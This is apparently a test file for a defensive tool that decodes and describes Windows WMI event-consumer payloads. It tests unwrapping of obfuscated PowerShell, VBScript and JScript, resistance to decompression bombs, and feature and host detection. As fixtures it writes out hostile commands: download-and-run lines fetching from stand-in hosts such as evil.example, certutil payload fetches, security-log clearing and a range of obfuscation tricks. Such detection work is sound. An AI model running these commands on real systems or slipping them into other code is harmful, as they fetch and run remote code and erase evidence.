import { deflateRawSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { judgementContent } from '../judge/index.ts'
import type { ConsumerFacts } from '../model.ts'
import { analysePayload, decodeLayers, defang, describeAction, splitCommand, splitWords } from './index.ts'
import { hostsIn } from './indicators.ts'

const { lists } = judgementContent()
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')
const hidden = (text: string): string =>
  decodeLayers(text)
    .map((layer) => layer.text)
    .join('\n')

test.each([
  '-e',
  '-ec',
  '-en',
  '-enc',
  '-enco',
  '-EncodedCommand',
  '/e',
  '/enc',
  '\u2013enc',
  '\u2014e',
  '\u2015EnC',
])('PowerShell takes %s as -EncodedCommand, so what follows is decoded', (flag) => {
  expect(hidden(`powershell.exe -nop ${flag} ${wide('whoami /all')}`)).toContain('whoami /all')
  expect(hidden(`pwsh ${flag} "${wide('whoami /all')}"`)).toContain('whoami /all')
})

test('-ExecutionPolicy is no abbreviation of -EncodedCommand', () => {
  expect(decodeLayers('powershell -ExecutionPolicy Unrestricted -File C:\\a\\bcdefgh.ps1')).toEqual([])
})

const HIDES: readonly (readonly [string, string, string])[] = [
  ['joined strings and variables', "$a='root\\sub';$b='scription';Get-X ($a+$b)", 'root\\subscription'],
  ['format', "&('{1}{0}{2}' -f 'voke-Web','In','Request')", 'Invoke-WebRequest'],
  ['replace', "iex ('Se~t-Wmi~Instance'.replace('~',''))", 'Set-WmiInstance'],
  ['the replace operator', "iex ('SeQQt-WmiQQInstance' -replace 'QQ','')", 'Set-WmiInstance'],
  ['join', "iex (('I','n','v','o','k','e') -join '')", 'Invoke'],
  ['unary join', "iex (-join ('I','n','v','o','k','e'))", 'Invoke'],
  ['characters', '[char]73+[char]0x45+[char](88)+" done"', 'IEX done'],
  ['a character array', "([char[]](73,69,88,32,49,50) -join '')", 'IEX 12'],
  ['a reversed string', "iex ('retupmoC-tratseR'[-1..-16] -join '')", 'Restart-Computer'],
  ['backticks', 'I`N`V`OKE-Expr`ess`ion $x', 'INVOKE-Expression'],
  ['piped codes', '-join (105,101,120,32,40,49,43,49,41|%{[char]$_})', 'iex (1+1)'],
  ['carets', 'c^m^d /c p^ow^ersh^ell -c x', 'powershell'],
  ['set variables', 'cmd /c "set a=power&& set b=shell&& %a%%b% -c x"', 'powershell -c'],
  ['slices of known variables', '%COMSPEC:~-7,3%%PROGRAMFILES:~3,4% x', 'cmdProg x'],
  ['empty quotes', 'w""mi""c process list', 'wmic process'],
  [
    'Chr chains',
    'Dim x\nx = Chr(87) & Chr(83) & Chr(&H63) & "ript" & Chr(46)\nSet o = CreateObject(x & "Shell")',
    'WScript.Shell',
  ],
  ['StrReverse and Execute', 'Dim x\nExecute StrReverse("1 xoBgsM")', 'MsgBox 1'],
  ['VBScript Replace', 'Dim x\nx = Replace("W#Script.Shell", "#", "")', 'WScript.Shell'],
  ['fromCharCode', 'var a = String.fromCharCode(87,83,99,114); eval(a)', 'WScr'],
  ['unescape', 'var a = unescape("%57%53%63%72%u0069pt"); var b = new ActiveXObject(a)', 'WScript'],
  ['split, reverse, join', 'var a = "PTTH".split("").reverse().join(""); var b = typeof a', 'HTTP'],
  ['hex escapes', 'var a = "\\x57\\x53\\x63" + "ript"; var b = typeof a', 'WScript'],
  ['base64 of UTF-8', `FromBase64String('${base64('Invoke-Command -ScriptBlock')}')`, 'Invoke-Command'],
  ['gzip', `x '${gzipSync('Invoke-Expression $payload').toString('base64')}'`, 'Invoke-Expression $payload'],
  [
    'deflate',
    `IO.Compression.DeflateStream '${deflateRawSync('Invoke-Expression $payload').toString('base64')}'`,
    'Invoke-Expression',
  ],
  [
    'exclusive-or with a stated key',
    `$k='${base64(Buffer.from(Buffer.from('Invoke-WebRequest http://a.example').map((byte) => byte ^ 0x23)))}'; $k[$i] -bxor 0x23`,
    'http://a.example',
  ],
]

test.each(HIDES)('%s are put together without running anything', (_, text, found) => {
  expect(hidden(text)).toContain(found)
})

test('layers inside layers come outermost first, eight deep at most', () => {
  let text = 'calc.exe'
  for (let depth = 0; depth < 12; depth += 1) text = `powershell -enc ${wide(text)}`
  const layers = decodeLayers(text.slice(0, 200_000))
  expect(layers.length).toBeLessThanOrEqual(8)
  const two = decodeLayers(`powershell -enc ${wide(`powershell -enc ${wide('calc.exe')}`)}`)
  expect(two.map((layer) => layer.text)).toEqual([`powershell -enc ${wide('calc.exe')}`, 'calc.exe'])
})

test.each([
  ["'".repeat(200_000)],
  ['"a"+'.repeat(50_000)],
  ['('.repeat(200_000)],
  [`$a='xxxxxxxx';${'$a=$a+$a;'.repeat(20_000)}`],
  ['A1b'.repeat(80_000)],
  ['%A%'.repeat(80_000)],
  ['^'.repeat(200_000)],
  ['1,'.repeat(100_000)],
  ["'{0}' -f ".repeat(20_000)],
  ['Chr(1)&'.repeat(30_000)],
  ['\\'.repeat(200_000)],
  ['set a=%a%&&'.repeat(20_000)],
  ['c:\\'.repeat(60_000)],
  [`${'.run'.repeat(100)}${' '.repeat(200_000)}`],
  [`eval${' '.repeat(200_000)}`],
  [`function${' '.repeat(200_000)}`],
  [`cmd /c "${' '.repeat(60_000)}>${'>'.repeat(60_000)}"`],
  [`${'1          '.repeat(20_000)}`],
  [`${'1 . 1   . '.repeat(20_000)}`],
  [`name = ${'\\'.repeat(100_000)}`],
  ['http://'.repeat(30_000)],
  ['[wmiclass] execute get-itemproperty '.repeat(6_000)],
  ['$a -bxor $b '.repeat(20_000)],
  [Array.from({ length: 20_000 }, (_, at) => `-bxor $k${at} `).join('')],
  ['powershell -nop '.repeat(15_000)],
  [`curl ${'a.'.repeat(100_000)}`],
  ["foreach($p in 'a','b'){$s+=$p};".repeat(8_000)],
  [`powershell ${'-x y '.repeat(20_000)}-f`],
])(
  'text made to swell or stall a decoder is answered (%#)',
  (text) => {
    const script: ConsumerFacts = { class: 'ActiveScriptEventConsumer', properties: { ScriptText: text } }
    const payload = analysePayload(script, lists)
    expect(payload.layers.length).toBeLessThanOrEqual(32)
    expect(describeAction(script, payload, lists)).toMatch(/^runs/)
  },
  20_000,
)

test('a bomb of gzip gives no more than the limit', () => {
  const bomb = gzipSync(Buffer.alloc(50_000_000, 65)).toString('base64')
  for (const layer of decodeLayers(`x '${bomb}'`)) expect(layer.text.length).toBeLessThanOrEqual(262_144)
})

test('any text gives layers, words and features', () => {
  const piece = fc.constantFrom(
    "'a'+'b'",
    'Chr(65)',
    ' & ',
    '[char]65',
    '-join ',
    '(',
    ')',
    '"',
    "'",
    '%u0041',
    '^',
    '`',
    'iex ',
    ' -f ',
    '$a=',
    '$a',
    '\n',
    ',',
    '[',
    ']',
    '..',
    '-1',
  )
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ maxLength: 400 }),
        fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')),
      ),
      (text) => {
        for (const type of [
          'CommandLineEventConsumer',
          'ActiveScriptEventConsumer',
          'LogFileEventConsumer',
          'X',
        ]) {
          const consumer: ConsumerFacts = {
            class: type,
            properties: { CommandLineTemplate: text, ScriptText: text, Filename: text, Text: text },
          }
          const payload = analysePayload(consumer, lists)
          expect(describeAction(consumer, payload, lists).length).toBeGreaterThan(0)
          expect(payload.layers.length).toBeLessThanOrEqual(32)
        }
        defang(text)
        splitWords(text)
      },
    ),
    { numRuns: 300 },
  )
})

test('a command is split as Windows does: quotes, escaped quotes, unquoted paths with spaces', () => {
  expect(splitWords('a "b c" d\\"e "f\\\\" g""h "i""j"')).toEqual(['a', 'b c', 'd"e', 'f\\', 'gh', 'i"j'])
  expect(splitCommand('C:\\Program Files\\Foo Bar\\a.exe -x')).toEqual({
    program: 'C:\\Program Files\\Foo Bar\\a.exe',
    arguments: ['-x'],
    rest: '-x',
    unquotedSpaces: true,
  })
  expect(splitCommand('"C:\\a b\\c.exe" /q')?.unquotedSpaces).toBe(false)
  expect(splitCommand('C:\\Windows\\System32\\cmd.exe /c C:\\x\\y.bat')?.program).toBe(
    'C:\\Windows\\System32\\cmd.exe',
  )
  expect(splitCommand('  ')).toBeUndefined()
})

const command = (template: string): ConsumerFacts => ({
  class: 'CommandLineEventConsumer',
  properties: { CommandLineTemplate: template },
})
const script = (text: string, engine = 'VBScript'): ConsumerFacts => ({
  class: 'ActiveScriptEventConsumer',
  properties: { ScriptingEngine: engine, ScriptText: text },
})
const does = (consumer: ConsumerFacts): string =>
  describeAction(consumer, analysePayload(consumer, lists), lists)
const idsOf = (consumer: ConsumerFacts): readonly string[] =>
  analysePayload(consumer, lists).features.map((feature) => feature.id)

test.each([
  [
    command('cmd.exe /c echo %ProcessId% >> c:\\temp\\log.txt'),
    'runs cmd.exe as SYSTEM, which appends the text "%ProcessId%" to c:\\temp\\log.txt',
  ],
  [
    command('C:\\Windows\\System32\\mshta.exe http://a.example/x.hta'),
    'runs C:\\Windows\\System32\\mshta.exe as SYSTEM, which runs a script page from hxxp[:]//a[.]example/x.hta',
  ],
  [
    command('rundll32 C:\\x\\y.dll,Run'),
    'runs rundll32 as SYSTEM, which loads and runs the library C:\\x\\y.dll',
  ],
  [command('powershell -enc <blah>'), 'runs powershell as SYSTEM, which is given a hidden (encoded) command'],
  [
    command(`powershell -enc ${wide("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')")}`),
    'runs powershell as SYSTEM, which runs a hidden command that fetches hxxp[:]//a[.]example/x and runs what it gets from there',
  ],
  [
    script('For Each p In Find(TargetEvent.ProcessID)\np.Terminate\nNext'),
    'runs a VBScript as SYSTEM that terminates the process that was just started',
  ],
  [
    command('cmd /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe'),
    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe to %TEMP%\\x.exe with certutil and runs "%TEMP%\\x.exe"',
  ],
  [
    command(`cmd /v:on /c "set a=po&&set b=wershell&&!a!!b! -enc ${wide('calc.exe')}"`),
    'runs cmd as SYSTEM, which runs a hidden command that is "calc.exe"',
  ],
  [command('c^m^d /c d^el /q C:\\Logs\\a.log 2>&1'), 'runs cmd as SYSTEM, which deletes C:\\Logs\\a.log'],
  [
    script('Set s = CreateObject("WScript.Shell")\ns.Run """C:\\Tools\\a.exe"" /x"'),
    'runs a VBScript as SYSTEM that starts C:\\Tools\\a.exe',
  ],
  [script('MsgBox 1'), 'runs a VBScript as SYSTEM: "MsgBox 1"'],
  [
    {
      class: 'LogFileEventConsumer',
      properties: { Filename: 'C:\\Logs\\a.log', Text: 'x' },
    } as ConsumerFacts,
    'writes the text "x" to C:\\Logs\\a.log and runs nothing',
  ],
  [
    { class: 'SMTPEventConsumer', properties: { ToLine: 'a@b.example' } } as ConsumerFacts,
    'sends a mail to a@b.example',
  ],
])('the action is told in plain words (%#)', (consumer, words) => {
  expect(does(consumer)).toBe(words)
})

test.each([
  ['payload/encoded-powershell', command('C:\\p\\powershell.exe -w hidden -nop -c x')],
  ['payload/memory-code', script('Set x = CreateObject("MSXML2.XMLHTTP")')],
  ['payload/network', command('C:\\a\\b.exe \\\\fileserver\\share\\x')],
  ['payload/network', command('C:\\a\\b.exe 203.0.113.4')],
  ['payload/unusual-path', command('C:\\Users\\Public\\a.exe')],
  ['payload/unusual-path', command('C:\\Program Files\\..\\ProgramData\\a.exe')],
  ['payload/unusual-path', command('\\\\?\\C:\\Windows\\Temp\\a.exe')],
  ['payload/unusual-path', command('C:\\a.exe')],
  ['payload/unusual-path', command('%TEMP%\\a.exe')],
  ['payload/lolbin', command('C:\\Windows\\System32\\certutil.exe -urlcache x')],
  ['payload/relative', command('cscript KernCap.vbs')],
  ['payload/relative', command('C:\\Windows\\System32\\cscript.exe KernCap.vbs')],
  ['payload/stored', script("iex ([wmiclass]'root\\cimv2:X').Properties['p'].Value")],
  ['payload/stored', script('Execute CreateObject("WScript.Shell").RegRead("HKLM\\x\\y")')],
  ['payload/tampering', script('CreateObject("WScript.Shell").Run "wevtutil cl Security"')],
])('%s is found', (id, consumer) => {
  expect(idsOf(consumer)).toContain(id)
})

test.each([
  [command('"C:\\Program Files\\Vendor\\agent.exe" /check'), []],
  [command('C:\\Windows\\System32\\wbem\\wmic.exe x'), ['payload/lolbin']],
  [script('x = "http://schemas.microsoft.com/a" & " Version=4.0.0.0"'), []],
  [script('Set o = GetObject("winmgmts:\\\\.\\root\\cimv2")'), []],
])('what is ordinary has no feature of an attack (%#)', (consumer, ids) => {
  expect(idsOf(consumer)).toEqual(ids)
})

test('addresses are unclickable for people and exact for machines', () => {
  expect(defang('see https://a.b.example/x and 10.0.0.1')).toBe(
    'see hxxps[:]//a[.]b[.]example/x and 10[.]0[.]0[.]1',
  )
  const { indicators } = analysePayload(command('C:\\a\\b.exe https://a.b.example/x?y=1'), lists)
  expect(indicators).toContainEqual({ kind: 'url', value: 'https://a.b.example/x?y=1' })
  expect(indicators).toContainEqual({ kind: 'domain', value: 'a.b.example' })
})

test('a comment of a VBScript speaks neither for nor against it, an apostrophe in a string is none', () => {
  const of = (text: string): readonly string[] =>
    analysePayload(
      { class: 'ActiveScriptEventConsumer', properties: { ScriptingEngine: 'VBScript', ScriptText: text } },
      lists,
    ).features.map(({ id }) => id)
  expect(of("' see http://wiki.corp.example/x\nrem WScript.Shell\nx = 1 ' http://a.example")).toEqual([])
  expect(of('x = "it\'s http://a.example/x"')).toContain('payload/network')
})

test.each([
  ['nslookup -q=txt c2.evil.example', 'c2.evil.example'],
  ["(New-Object Net.Sockets.TcpClient('evil.example',443))", 'evil.example'],
  ['curl.exe -o C:\\Users\\Public\\a.exe evil.example/a.exe', 'evil.example'],
  ['iwr evil.example/a.ps1 -useb | iex', 'evil.example'],
])('a machine without a scheme is found in %s', (text, host) => expect(hostsIn(text)).toEqual([host]))

test.each([
  'type a.b.txt',
  'curl.exe --version',
  'System.Net.WebClient',
  'iwr $url -OutFile update.package.exe',
])('no machine is seen in %s', (text) => expect(hostsIn(text)).toEqual([]))
